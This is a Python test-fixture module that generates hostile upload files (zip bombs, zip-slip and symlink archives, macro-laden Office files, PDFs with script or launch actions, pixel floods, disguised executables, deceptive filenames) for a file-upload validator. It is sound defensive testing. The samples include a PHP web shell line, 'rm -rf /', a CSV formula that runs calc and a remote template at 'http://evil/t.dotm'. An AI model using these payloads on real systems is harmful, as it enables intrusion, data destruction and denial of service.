"""Files that must not become evidence, made on the spot: one builder per class, with the words of the refusal."""

import io
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass

from PIL import Image
from pillow_heif import register_heif_opener
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject


@dataclass(frozen=True)
class Hostile:
    """A file, its name and a part of the sentence that refuses it."""

    label: str
    name: str
    content: bytes
    sentence: str


def pdf(*, pages: int = 1) -> PdfWriter:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(200, 200)
    return writer


def written(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def plain_pdf() -> bytes:
    return written(pdf())


def locked_pdf() -> bytes:
    writer = pdf()
    writer.encrypt("mat-khau", algorithm="AES-256")
    return written(writer)


def pdf_with_script() -> bytes:
    writer = pdf()
    action = DictionaryObject({NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("1")})
    names = ArrayObject([TextStringObject("a"), action])
    writer.root_object[NameObject("/Names")] = DictionaryObject(
        {NameObject("/JavaScript"): DictionaryObject({NameObject("/Names"): names})}
    )
    return written(writer)


def pdf_that_launches() -> bytes:
    writer = pdf()
    action = DictionaryObject({NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("cmd.exe")})
    writer.root_object[NameObject("/OpenAction")] = action
    return written(writer)


def pdf_that_opens_an_address() -> bytes:
    writer = pdf()
    action = DictionaryObject(
        {NameObject("/S"): NameObject("/URI"), NameObject("/URI"): TextStringObject("https://a.vn")}
    )
    writer.root_object[NameObject("/OpenAction")] = action
    return written(writer)


def pdf_with_a_link() -> bytes:
    writer = pdf()
    action = DictionaryObject(
        {NameObject("/S"): NameObject("/URI"), NameObject("/URI"): TextStringObject("https://a.vn")}
    )
    note = DictionaryObject({NameObject("/Subtype"): NameObject("/Link"), NameObject("/A"): action})
    writer.pages[0][NameObject("/Annots")] = ArrayObject([note])
    return written(writer)


def pdf_with_attachment() -> bytes:
    writer = pdf()
    writer.add_attachment("x.exe", b"MZ")
    return written(writer)


def pdf_with_page_script() -> bytes:
    writer = pdf()
    action = DictionaryObject({NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("1")})
    writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): action})
    return written(writer)


def office(kind: str = "word", *, extra: dict[str, bytes] | None = None, types: bytes = b"<Types/>") -> bytes:
    main = {"word": "word/document.xml", "excel": "xl/workbook.xml", "slides": "ppt/presentation.xml"}[kind]
    parts = {"[Content_Types].xml": types, "_rels/.rels": b"<Relationships/>", main: b"<w:document/>", **(extra or {})}
    return zipped(parts)


def zipped(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def zip_bomb() -> bytes:
    return office(extra={f"word/media/{number}.bin": b"\x00" * (30 * 1024 * 1024) for number in range(8)})


def one_steep_entry() -> bytes:
    """Small enough unpacked, but a thousand times larger than packed: no text or picture of a person is packed like this."""
    return office(extra={"word/media/1.bin": b"\x00" * (20 * 1024 * 1024)})


def symlink_in_office() -> bytes:
    out = io.BytesIO(office())
    with zipfile.ZipFile(out, "a") as archive:
        entry = zipfile.ZipInfo("word/link")
        entry.external_attr = 0o120777 << 16
        archive.writestr(entry, "/etc/passwd")
    return out.getvalue()


def encrypted_zip_entry() -> bytes:
    content = bytearray(office())
    for mark in (b"PK\x03\x04", b"PK\x01\x02"):
        offset = 6 if mark == b"PK\x03\x04" else 8
        start = content.find(mark)
        content[start + offset] |= 1
    return bytes(content)


def image(form: str = "PNG", size: tuple[int, int] = (20, 20)) -> bytes:
    register_heif_opener()  # the tests write HEIC photos as well
    out = io.BytesIO()
    Image.new("RGB", size, "green").save(out, form)
    return out.getvalue()


def pixel_flood() -> bytes:
    """A PNG whose head claims 50,000 × 50,000 pixels."""
    content = bytearray(image())
    content[16:24] = struct.pack(">II", 50_000, 50_000)
    import zlib

    content[29:33] = struct.pack(">I", zlib.crc32(bytes(content[12:29])))
    return bytes(content)


def webp_head(form: bytes) -> bytes:
    """34 bytes or less that claim 16,384 × 16,384 pixels: a gigabyte for whoever believes them."""
    body = {
        b"VP8X": b"\x0a\x00\x00\x00" + b"\x00" * 4 + b"\xff\x3f\x00" * 2,
        b"VP8L": b"\x0e\x00\x00\x00" + b"\x2f" + b"\xff" * 4 + b"\x00" * 9,
        b"VP8 ": b"\x0e\x00\x00\x00" + b"\x10\x00\x00\x9d\x01\x2a" + b"\xff\x3f" * 2 + b"\x00" * 4,
    }[form]
    return b"RIFF" + struct.pack("<I", len(body) + 8) + b"WEBP" + form + body


def crowded_list() -> bytes:
    """An Office file whose list of entries is longer than any person's: refused before the list is read."""
    return office(extra={f"word/media/{number}.png": b"" for number in range(5_000)})


def mp4_box(brand: bytes) -> bytes:
    return struct.pack(">I", 24) + b"ftyp" + brand + b"\x00\x00\x02\x00" + brand + b"mif1" + b"\x00" * 64


MARKUP = "Trang web hoặc hình vẽ SVG, XML không nhận được"
ARCHIVE = "Tệp nén không nhận được"
PROGRAM = "chương trình chạy trên máy"
BUILDERS: tuple[tuple[str, str, Callable[[], bytes], str], ...] = (
    ("html page", "trang.html", lambda: b"<!DOCTYPE html><script>alert(1)</script>", MARKUP),
    ("html named pdf", "hop-dong.pdf", lambda: b"<html><body>x</body></html>", MARKUP),
    ("xhtml", "trang.xhtml", lambda: b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"/>', MARKUP),
    (
        "svg with script",
        "hinh.svg",
        lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>',
        MARKUP,
    ),
    ("svg named png", "anh.png", lambda: b"\xef\xbb\xbf  <svg onload='x()'></svg>", MARKUP),
    ("xml with entities", "bom.xml", lambda: b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>', MARKUP),
    ("mht page", "trang.mht", lambda: b"MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n", MARKUP),
    ("utf-16 html", "trang.pdf", lambda: "<html><script>1</script></html>".encode("utf-16"), MARKUP),
    ("javascript", "a.js", lambda: b"function f() { return 1 }", "Tệp lệnh không nhận được"),
    ("shell script", "a.sh", lambda: b"#!/bin/sh\nrm -rf /\n", "Tệp lệnh không nhận được"),
    ("php", "a.php", lambda: b"<?php system($_GET['c']); ?>", "Tệp lệnh không nhận được"),
    ("plain text", "ghi-chu.txt", "Trà Đức Hòa".encode, "Tệp chữ thô không nhận được"),
    ("csv with formula", "bang.csv", lambda: b"=cmd|'/C calc'!A0,1\n", "Tệp chữ thô không nhận được"),
    (
        "eicar",
        "eicar.com",
        lambda: b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*",
        "Tệp chữ thô không nhận được",
    ),
    ("windows program", "a.exe", lambda: b"MZ" + b"\x00" * 100, PROGRAM),
    ("windows program named jpg", "anh.jpg", lambda: b"MZ\x90\x00" + b"\x00" * 100, PROGRAM),
    ("linux program", "a", lambda: b"\x7fELF" + b"\x00" * 100, PROGRAM),
    ("zip archive", "goi.zip", lambda: zipped({"a.txt": b"x"}), ARCHIVE),
    ("zip named docx", "don.docx", lambda: zipped({"a.txt": b"x"}), ARCHIVE),
    ("zip slip named docx", "don.docx", lambda: zipped({"../../etc/passwd": b"x"}), "không đọc được"),
    ("gzip", "a.gz", lambda: b"\x1f\x8b\x08\x00" + b"\x00" * 50, ARCHIVE),
    ("7z", "a.7z", lambda: b"7z\xbc\xaf\x27\x1c" + b"\x00" * 50, ARCHIVE),
    ("rar", "a.rar", lambda: b"Rar!\x1a\x07\x00" + b"\x00" * 50, ARCHIVE),
    ("broken zip", "a.docx", lambda: b"PK\x03\x04" + b"\x00" * 50, "không đọc được"),
    ("truncated docx", "a.docx", lambda: office()[:-30], "không đọc được"),
    ("docx with macro", "a.docx", lambda: office(extra={"word/vbaProject.bin": b"x"}), "macro"),
    (
        "macro type",
        "a.docm",
        lambda: office(types=b'<Types ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'),
        "macro|đuôi",
    ),
    ("xlsx with old macros", "a.xlsx", lambda: office("excel", extra={"xl/macrosheets/sheet1.xml": b"<x/>"}), "macro"),
    ("docx with active control", "a.docx", lambda: office(extra={"word/activeX/activeX1.xml": b"<x/>"}), "macro"),
    ("docx with embedded object", "a.docx", lambda: office(extra={"word/embeddings/oleObject1.bin": b"x"}), "macro"),
    (
        "docx with remote template",
        "a.docx",
        lambda: office(
            extra={
                "word/_rels/settings.xml.rels": b'<Relationship Type="x/attachedTemplate" Target="http://evil/t.dotm" TargetMode="External"/>'
            }
        ),
        "macro",
    ),
    (
        "docx with entities",
        "a.docx",
        lambda: office(extra={"word/document.xml": b"<!DOCTYPE a [<!ENTITY b 'c'>]><a/>"}),
        "không đọc được",
    ),
    ("docx with a way out", "a.docx", lambda: office(extra={"../../../tmp/x": b"x"}), "không đọc được"),
    ("docx with symlink", "a.docx", symlink_in_office, "không đọc được"),
    ("docx bomb", "a.docx", zip_bomb, "quá lớn"),
    ("docx with one entry packed a thousandfold", "a.docx", one_steep_entry, "quá lớn"),
    ("docx with locked entry", "a.docx", encrypted_zip_entry, "mật khẩu"),
    ("old word", "a.doc", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512, "mật khẩu"),
    ("locked pdf", "a.pdf", locked_pdf, "khóa bằng mật khẩu"),
    ("pdf with script", "a.pdf", pdf_with_script, "mã lệnh"),
    ("pdf that launches", "a.pdf", pdf_that_launches, "mã lệnh"),
    ("pdf that opens an address", "a.pdf", pdf_that_opens_an_address, "mã lệnh"),
    ("pdf with attachment", "a.pdf", pdf_with_attachment, "mã lệnh"),
    ("pdf with page script", "a.pdf", pdf_with_page_script, "mã lệnh"),
    ("truncated pdf", "a.pdf", lambda: plain_pdf()[:60], "không đọc được"),
    ("pdf of nothing", "a.pdf", lambda: b"%PDF-1.7\n", "không đọc được"),
    ("pdf without pages", "a.pdf", lambda: written(PdfWriter()), "không đọc được"),
    ("endless pdf", "a.pdf", lambda: written(pdf(pages=1001)), "1001 trang"),
    ("empty heic", "IMG_1.HEIC", lambda: mp4_box(b"heic"), "không đọc được"),
    ("truncated heic", "IMG_2.HEIC", lambda: image("HEIF", (400, 400))[:500], "không đọc được"),
    ("gif", "a.gif", lambda: b"GIF89a" + b"\x01\x00\x01\x00\x00\x00\x00;", "GIF"),
    ("gif with script", "a.js.gif", lambda: b"GIF89a/*\x00\x00*/=1;alert(1)//", "GIF"),
    ("bmp", "a.bmp", lambda: image("BMP"), "BMP"),
    ("tiff", "a.tif", lambda: image("TIFF"), "TIFF"),
    ("film of an old telephone", "a.3gp", lambda: mp4_box(b"3gp4"), "3GP.*MP4"),
    ("broken jpeg", "a.jpg", lambda: b"\xff\xd8\xff\xe0" + b"\x00" * 200, "không đọc được"),
    ("truncated jpeg", "a.jpg", lambda: image("JPEG", (400, 400))[:700], "không đọc được"),
    ("pixel flood", "a.png", pixel_flood, "điểm ảnh"),
    ("webp of 34 bytes, simple", "a.webp", lambda: webp_head(b"VP8 "), "điểm ảnh"),
    ("webp of 34 bytes, lossless", "a.webp", lambda: webp_head(b"VP8L"), "điểm ảnh"),
    ("webp of 34 bytes, extended", "a.webp", lambda: webp_head(b"VP8X"), "điểm ảnh"),
    ("picture without a size", "a.png", lambda: b"\x89PNG\r\n\x1a\n", "không đọc được"),
    ("crowded docx", "a.docx", crowded_list, "quá lớn"),
    ("random bytes", "a.pdf", lambda: bytes(range(128, 256)) * 4, "Loại tệp này không dùng"),
    ("empty", "a.pdf", lambda: b"", "Tệp trống"),
    ("program ending on a pdf", "hop-dong.pdf.exe", plain_pdf, "đuôi"),
    ("html ending on a photo", "anh.html", image, "đuôi"),
    ("right-to-left name", "hop-dong\u202efdp.jpg", image, "đảo chiều"),
    ("name with NUL", "a\x00.pdf", plain_pdf, "ký tự ẩn"),
    ("name with path", "../../etc/passwd.pdf", plain_pdf, "gạch chéo"),
    ("name with backslash", "C:\\x.pdf", plain_pdf, "gạch chéo"),
    ("name of 10 KB", "a" * 10_240 + ".pdf", plain_pdf, "quá dài"),
)


def corpus() -> list[Hostile]:
    """Build every hostile file."""
    return [Hostile(label, name, make(), sentence) for label, name, make, sentence in BUILDERS]
